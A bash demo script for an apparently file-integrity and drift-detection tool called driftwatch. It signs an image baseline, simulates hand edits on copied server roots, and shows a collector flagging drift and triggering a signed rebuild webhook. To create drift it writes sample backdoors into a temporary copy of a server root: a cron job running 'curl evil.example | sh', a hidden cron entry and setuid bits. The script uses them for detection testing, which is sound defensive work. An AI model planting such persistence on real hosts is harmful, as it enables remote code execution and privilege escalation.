#!/usr/bin/env bash
# driftwatch demo, the whole immutable-infrastructure loop on one machine, without root:
#  1. the image pipeline signs a baseline of an image root, and a test server from that image
#     checks clean; drifted by hand, the one-shot check catches every change;
#  2. a fleet: a collector on its embedded SQLite database, the baseline pushed to its image
#     registry, two agents (role "web") streaming over mutual TLS; one host is edited by hand,
#     the collector flags it and fires its signed rebuild webhook; the receiver
#     (packaging/examples/rebuild-receiver) verifies the signature and "rebuilds": the drifted
#     server is destroyed and a fresh one from the image enrolls with the same role, so the old
#     host is marked replaced and the fleet is clean again; the audit chain verifies.
#
# The "image" is a copy of real system directories of this machine (/etc, /usr/bin, /usr/sbin),
# so the demo needs no network. Everything happens in a temporary directory that is removed at
# the end (KEEP=1 keeps it). DRIFTWATCH_DEMO_BIN=DIR uses the binaries in DIR instead of
# building release ones (the test suite runs the demo that way: tests/tests/demo.rs).
set -euo pipefail
cd "$(dirname "$0")/.."
repo=$PWD

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

if [ -n "${DRIFTWATCH_DEMO_BIN:-}" ]; then
  bin=$(cd "$DRIFTWATCH_DEMO_BIN" && pwd)
else
  step "building driftwatch-agent, driftwatch-collector and driftwatch (release)"
  cargo build --release --quiet -p driftwatch-agent -p driftwatch-collector
  bin=$PWD/target/release
fi
dw=$bin/driftwatch-agent
dwc=$bin/driftwatch-collector
dwcli=$bin/driftwatch
started=$SECONDS
pids=()
cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  # Agents the rebuild receiver started for successors record their pid next to their root.
  for f in "$work"/*/agent.pid; do [ -f "$f" ] && kill "$(cat "$f")" 2>/dev/null || true; done
  wait 2>/dev/null || true
  [ "${KEEP:-0}" = 1 ] || rm -rf "$work"
}

work=$(mktemp -d /var/tmp/driftwatch-demo.XXXXXX)
trap cleanup EXIT
img=$work/image
mkdir -p "$img/usr"
step "making an image root in $img from this machine's /etc, /usr/bin and /usr/sbin"
cp -a /etc "$img/" 2>/dev/null || true     # unreadable files (shadow) are skipped without root
cp -a /usr/bin /usr/sbin "$img/usr/"
echo "$(find "$img" | wc -l) objects, $(du -sh "$img" | cut -f1)"
# Servers "booted" from the image: a test server, and two production servers for the fleet.
for h in test-server web-1 web-2; do mkdir -p "$work/$h"; cp -a "$img/." "$work/$h/root"; done
srv=$work/test-server/root

step "image pipeline: a signing key, then the signed baseline of the image"
"$dw" keygen --out "$work/pipeline"
"$dw" baseline create --root "$img" --image-id demo-web --image-version 2026.11.1 \
  --expires 90d --sign-key "$work/pipeline.key" --out "$work/baseline.dwb"
"$dw" baseline verify "$work/baseline.dwb" --trusted-key "$work/pipeline.pub"
"$dw" baseline show "$work/baseline.dwb" --trusted-key "$work/pipeline.pub"

step "test server from the image: it checks clean (exit 0)"
sleep 2  # let the copy age past the scan cache's 2 s racy window, so the cache can trust it
"$dw" check --baseline "$work/baseline.dwb" --trusted-key "$work/pipeline.pub" \
  --root "$srv" --state-dir "$work/state" && echo "exit status 0"

step "someone fixes things on the test server by hand"
some_bin=$(find "$srv/usr/bin" -maxdepth 1 -type f -name 'c*' | sort | sed -n 1p)
echo "  chmod u+s ${some_bin#"$srv"}"
chmod u+s "$some_bin"
echo "  a new job in /etc/cron.d"
mkdir -p "$srv/etc/cron.d"; echo '* * * * * root /tmp/.x' > "$srv/etc/cron.d/.hidden"
victim=$(find "$srv/usr/bin" -maxdepth 1 -type f -name 'd*' | sort | sed -n 1p)
echo "  rm ${victim#"$srv"}"
rm "$victim"
conf=$(find "$srv/etc" -maxdepth 1 -type f -name '*.conf' -readable | sort | sed -n 1p)
echo "  edit ${conf#"$srv"} and put its old mtime back"
touch -r "$conf" "$work/mtime"; echo '# quick fix' >> "$conf"; touch -r "$work/mtime" "$conf"

step "the check catches all of it (exit 1), re-hashing only what changed"
set +e
"$dw" check --baseline "$work/baseline.dwb" --trusted-key "$work/pipeline.pub" \
  --root "$srv" --state-dir "$work/state"
status=$?
set -e
echo "exit status $status"
[ "$status" = 1 ] || { echo "demo failed: expected drift (exit 1)" >&2; exit 1; }

step "the same as JSON for machines (first violation shown)"
"$dw" check --baseline "$work/baseline.dwb" --trusted-key "$work/pipeline.pub" \
  --root "$srv" --state-dir "$work/state" --format json \
  | python3 -c 'import json,sys; r=json.load(sys.stdin); print(json.dumps(r["violations"][0], indent=2)); print("summary:", json.dumps(r["summary"]["by_kind"]))' || true

step "fleet: a collector on its embedded SQLite database, and a rebuild receiver (loopback)"
free_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
grpc=$(free_port); http=$(free_port); hook=$(free_port)
# The secret the collector signs rebuild webhooks with; the receiver gets the same file.
(umask 077; printf 'whsec_%s\n' "$(head -c 32 /dev/urandom | base64)" > "$work/webhook.secret")
cat > "$work/collector.toml" <<EOF
state_dir = "$work/collector"
grpc_listen = "127.0.0.1:$grpc"
http_listen = "127.0.0.1:$http"
server_names = ["127.0.0.1"]
heartbeat_interval = "5s"
reconcile_interval = "1s"
# Baselines pushed to the image registry must be signed by the pipeline's key.
trusted_keys = ["$work/pipeline.pub"]

[flagging]
severity_at_least = "high"          # a setuid bit is critical, a new cron job high
registered_root = true              # a host off its image's pushed baseline is a snowflake

[actions]
kind = "webhook"
url = "http://127.0.0.1:$hook/"
secret_file = "$work/webhook.secret"
approval = false                    # the default is true: an operator approves each rebuild
max_in_flight = 1
EOF
"$dwc" serve --config "$work/collector.toml" 2>"$work/collector.log" &
pids+=($!)
for _ in $(seq 1 100); do grep -q "collector serving" "$work/collector.log" && break; sleep 0.1; done
grep -q "collector serving" "$work/collector.log" || { cat "$work/collector.log" >&2; exit 1; }
fp=$("$dwc" ca show --config "$work/collector.toml" | sed -n 's/^sha256 fingerprint: //p')
echo "collector CA fingerprint $fp"
# Three enrollments: two servers now, and the successor the rebuild will boot.
"$dwc" token create --config "$work/collector.toml" --uses 3 --ttl 10m --host-pattern 'web-*' \
  2>/dev/null > "$work/enroll.token"
export DRIFTWATCH_API=http://127.0.0.1:$http
admin=$("$dwc" api-token create --config "$work/collector.toml" --role admin --name pipeline 2>/dev/null)
# People read with an auditor's token (shown once, kept in the env).
DRIFTWATCH_TOKEN=$("$dwc" api-token create --config "$work/collector.toml" --role auditor --name demo 2>/dev/null)
export DRIFTWATCH_TOKEN

# The "deploy system" behind the webhook: destroy the drifted server, boot a fresh one from the
# image, enroll its agent with the same role label. The receiver runs it once per request.
cat > "$work/rebuild-host" <<EOF
#!/usr/bin/env bash
set -euo pipefail
old=\$DRIFTWATCH_HOST_ID
[[ \$old =~ ^web-[0-9]+\$ ]] || { echo "rebuild-host: refusing host id \$old" >&2; exit 1; }
new=web-\$(( \${old#web-} + 2 ))
echo "rebuild-host: destroying \$old, booting \$new from the image (role \$DRIFTWATCH_ROLE)" >&2
kill "\$(cat "$work/\$old/agent.pid")" 2>/dev/null || true
rm -rf "$work/\$old/root"
mkdir -p "$work/\$new"
cp -a "$img/." "$work/\$new/root"
"$dw" enroll --collector "https://127.0.0.1:$grpc" --ca-fingerprint "$fp" \\
  --token "\$(cat "$work/enroll.token")" --host-id "\$new" --label "role=\$DRIFTWATCH_ROLE" \\
  --state-dir "$work/\$new/state" >&2
sed "s|/\$old/|/\$new/|g" "$work/\$old/agent.toml" > "$work/\$new/agent.toml"
nohup "$dw" run --config "$work/\$new/agent.toml" >"$work/\$new/agent.log" 2>&1 &
echo \$! > "$work/\$new/agent.pid"
EOF
chmod +x "$work/rebuild-host"
python3 "$repo/packaging/examples/rebuild-receiver/receiver.py" --secret-file "$work/webhook.secret" \
  --listen "127.0.0.1:$hook" --state-dir "$work/receiver" -- "$work/rebuild-host" \
  2>"$work/receiver.log" &
pids+=($!)

step "image pipeline: push the signed baseline to the collector's image registry"
DRIFTWATCH_TOKEN=$admin "$dwcli" baseline push "$work/baseline.dwb"

step "fleet: two agents enroll (CA pinned by fingerprint, role label web) and start reporting"
for h in web-1 web-2; do
  "$dw" enroll --collector "https://127.0.0.1:$grpc" --ca-fingerprint "$fp" \
    --token "$(cat "$work/enroll.token")" --host-id "$h" --label role=web --state-dir "$work/$h/state"
  cat > "$work/$h/agent.toml" <<EOF
collector = "https://127.0.0.1:$grpc"
trusted_keys = ["$work/pipeline.pub"]
baseline = "$work/baseline.dwb"
state_dir = "$work/$h/state"
root = "$work/$h/root"
scan_interval = "3s"
EOF
  "$dw" run --config "$work/$h/agent.toml" 2>"$work/$h/agent.log" &
  echo $! > "$work/$h/agent.pid"
done
wait_for() {  # wait_for DESCRIPTION PYTHON-CONDITION (h: host id -> host JSON); at most 120 s
  for _ in $(seq 1 240); do
    if "$dwcli" --format json hosts 2>/dev/null | python3 -c "import json,sys; h={x['host_id']:x for x in json.load(sys.stdin)['hosts']}; sys.exit(0 if ($2) else 1)"; then return 0; fi
    sleep 0.5
  done
  echo "demo failed: timed out waiting for $1" >&2
  tail -n 5 "$work"/web-*/agent.log "$work/collector.log" "$work/receiver.log" >&2
  exit 1
}
wait_for "two clean hosts" "len(h)==2 and all(x['lifecycle']=='clean' for x in h.values())"
"$dwcli" hosts

step "production: someone edits web-2 by hand"
echo "  a new job in /etc/cron.d, and chmod u+s ${some_bin#"$srv"}"
mkdir -p "$work/web-2/root/etc/cron.d"
echo '* * * * * root curl evil.example | sh' > "$work/web-2/root/etc/cron.d/backdoor"
chmod u+s "$work/web-2/root${some_bin#"$srv"}"
wait_for "web-2 flagged" "h['web-2']['lifecycle'] in ('flagged','rebuild_requested','replaced')"
"$dwcli" hosts explain web-2

step "security team: which hosts have anything new in /etc/cron.d?"
"$dwcli" violations search --path '/etc/cron.d/*'

step "the collector fires web-2's signed rebuild webhook; the receiver replaces the server"
wait_for "web-2 replaced by a clean web-4" \
  "h.get('web-2',{}).get('lifecycle')=='replaced' and h.get('web-4',{}).get('lifecycle')=='clean' and h['web-1']['lifecycle']=='clean'"
sed 's/^/  /' "$work/receiver.log"
"$dwcli" rebuilds
"$dwcli" hosts

step "auditors: every step is in the hash-chained audit log, and the chain verifies"
"$dwcli" audit list | grep -E 'web-2|rb_' || true
"$dwcli" audit verify
echo
echo "demo finished: the fleet is clean again, $((SECONDS - started)) s after the build"
